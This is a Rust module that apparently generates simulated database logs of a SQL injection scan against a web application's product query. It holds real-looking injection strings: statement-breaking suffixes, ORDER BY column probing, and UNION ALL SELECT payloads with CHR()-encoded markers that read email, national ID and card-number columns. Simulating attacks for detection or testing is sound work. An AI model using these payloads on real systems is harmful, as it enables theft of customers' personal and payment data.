//! A scanner works on an injectable parameter of the web application: break the statement, count the columns, read by
//! UNION (T1190). The application opens a connection for each request, as it does when each one fails.

use crate::range::draw::Draw;
use crate::range::transcript::{Transcript, sqlstate};

const BASE: &str = "SELECT id, name, price FROM products WHERE id = ";

pub(super) fn strike(transcript: &mut Transcript<'_>) {
    request(transcript, |transcript| transcript.select_untimed(&format!("{BASE}1"), 1));
    for suffix in ["\"))('.,.)", "'kLm<'\">IAw", ") ORDER BY 1-- ", " AND 1=1)-- "] {
        request(transcript, |transcript| transcript.refused(&format!("{BASE}1{suffix}"), sqlstate::SYNTAX_ERROR));
    }
    for columns in [1, 8146, 10, 6, 4, 3] {
        request(transcript, |transcript| count_columns(transcript, columns));
    }
    for _ in 0..transcript.draw.between(30, 60) {
        request(transcript, read_by_union);
    }
}

fn request(transcript: &mut Transcript<'_>, statement: impl FnOnce(&mut Transcript<'_>)) {
    let account = transcript.site.service("web", transcript.draw.between(10, 12), "gunicorn");
    transcript.login(&account);
    statement(transcript);
    transcript.logout_at_once();
    transcript.wait(0, 1);
}

fn count_columns(transcript: &mut Transcript<'_>, columns: u64) {
    let sql = format!("{BASE}1 ORDER BY {columns}-- {}", transcript.draw.hex(4));
    if columns > 3 {
        transcript.refused(&sql, sqlstate::INVALID_COLUMN_REFERENCE);
    } else {
        transcript.select_untimed(&sql, 1);
    }
}

fn read_by_union(transcript: &mut Transcript<'_>) {
    let draw = &mut *transcript.draw;
    let (marker, end) = (characters(draw, 5), draw.hex(4));
    let column = draw.pick(&["email", "full_name", "national_id", "pan", "created_at"]);
    let table = draw.pick(&["customers", "cards", "employees"]);
    let wanted = match draw.below(10) {
        0 => "(SELECT (CASE WHEN (59=59) THEN (CHR(49)) ELSE (CHR(48)) END))".to_owned(),
        1 => "(SELECT (CASE WHEN (AURORA_VERSION() LIKE (CHR(37))) THEN (CHR(49)) ELSE (CHR(48)) END))".to_owned(),
        2 => "(SELECT COALESCE(CAST(COUNT(*) AS VARCHAR(10000))::text,(CHR(32))) FROM pg_tables)".to_owned(),
        _ => format!(
            "(SELECT COALESCE(CAST({column} AS VARCHAR(10000))::text,(CHR(32))) FROM public.{table} OFFSET {} LIMIT 1)",
            draw.below(100)
        ),
    };
    let number = draw.between(1000, 9999);
    let sql = format!("{BASE}-{number} UNION ALL SELECT NULL,{marker}||{wanted}||{marker},NULL-- {end}");
    if wanted.contains("AURORA") {
        transcript.refused(&sql, sqlstate::UNDEFINED_FUNCTION);
    } else {
        transcript.select_untimed(&sql, 1);
    }
}

/// A text spelled as character codes, which needs no quotes.
fn characters(draw: &mut Draw, length: u64) -> String {
    let codes: Vec<String> = (0..length).map(|_| format!("CHR({})", draw.between(97, 122))).collect();
    format!("({})", codes.join("||"))
}
